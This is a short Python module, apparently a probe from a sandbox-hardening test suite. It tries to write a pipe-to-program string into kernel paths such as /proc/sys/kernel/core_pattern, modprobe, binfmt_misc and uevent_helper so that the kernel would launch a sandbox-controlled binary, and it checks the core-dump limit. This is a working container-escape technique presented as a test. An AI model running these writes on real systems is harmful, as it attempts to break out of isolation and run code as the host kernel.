# SPDX-License-Identifier: Apache-2.0
"""/proc/sys can be written: have the kernel start a program of ours."""
import os

MINE = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper", "/proc/sys/kernel/randomize_va_space", "/proc/sys/vm/overcommit_memory"]


def put(path):
    fd = os.open(path, os.O_WRONLY)
    os.write(fd, b"|/tmp/sandbox/x")
    os.close(fd)
    return True


def attack(a):
    for path in MINE:
        a.step(f"write {path}", put, path)
    # Of 1 byte the kernel writes none, and starts no program for it either, as it does at 0.
    a.step("a core file", lambda: __import__("resource").getrlimit(4)[1] != 1)
